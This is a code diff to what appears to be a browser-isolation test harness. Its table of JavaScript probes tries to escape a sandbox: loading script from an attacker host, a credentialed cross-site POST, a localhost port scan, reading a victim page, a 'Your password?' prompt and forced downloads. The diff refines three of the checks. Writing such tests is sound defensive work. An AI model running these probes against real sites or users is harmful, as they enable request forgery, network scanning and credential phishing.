@@ -143,7 +143,11 @@ const ended = (thing, ...names) => new Promise((done) => names.forEach((name) =>
 const tries = {{
   content_switch: () => add("script", {{ src: mine + "/live.js" }}),
   request_forgery: () => fetch(victim + "{leave}", {{ method: "POST", credentials: "include", mode: "no-cors" }}),
-  port_scan: () => fetch("http://127.0.0.1:{port}/port-scan", {{ mode: "no-cors" }}).then(() => win("port_scan")),
+  // A copy may answer in the place of any port; only who tells an open one from a closed one has scanned.
+  port_scan: async () => {{
+    const open = (at) => fetch(`http://127.0.0.1:${{at}}/port-scan`, {{ mode: "no-cors" }}).then(() => true, () => false);
+    if ((await open({port})) && !(await open({datagrams}))) win("port_scan");
+  }},
   same_domain: async () => /Ida/.test(await (await fetch(victim + "/desk", {{ credentials: "include" }})).text()) && win("same_domain"),
   same_domain_frame: () => {{ if (parent !== self && parent.document.body) win("same_domain_frame"); }},
   same_subdomain: () => {{ document.cookie = "tossed=1; path=/"; if (document.cookie.includes("tossed")) win("same_subdomain"); }},
@@ -155,11 +159,13 @@ const tries = {{
   events: () => ended(new EventSource(mine + "/events"), "error", "message"),
   xhr: () => {{ const asked = new XMLHttpRequest(); asked.open("GET", mine + "/xhr"); asked.send(); return ended(asked, "loadend"); }},
   form_action: () => document.querySelector("form").submit(),
-  history: () => {{ history.pushState({{}}, "", "/desk/taken-over"); if (location.pathname === "/desk/taken-over") win("history"); }},
+  // A frame may call itself what it likes; its reader reads the window's address.
+  history: () => {{ history.pushState({{}}, "", "/desk/taken-over"); if (top.location.pathname === "/desk/taken-over") win("history"); }},
   title: () => {{ document.title = "Taken over"; }},
   popup: () => {{ window.open(mine + "/popup"); }},
   dialog: () => {{ if (window.confirm("Your password?")) win("dialog"); }},
-  download: () => {{ const a = Object.assign(document.createElement("a"), {{ href: mine + "/download", download: "x" }}); document.body.append(a); a.click(); }},
+  // It leads the page away where it can: the others go first.
+  download: async () => {{ await new Promise((done) => setTimeout(done, 1200)); const a = Object.assign(document.createElement("a"), {{ href: mine + "/download", download: "x" }}); document.body.append(a); a.click(); }},
   // A realm of its own has everything that was taken from this one.
   realm: () => {{ const f = document.createElement("iframe"); document.body.append(f); return f.contentWindow.fetch(mine + "/realm", {{ mode: "no-cors" }}); }},
   script_frame: () => add("iframe", {{ srcdoc: `<img src="${{mine}}/srcdoc">` }}),
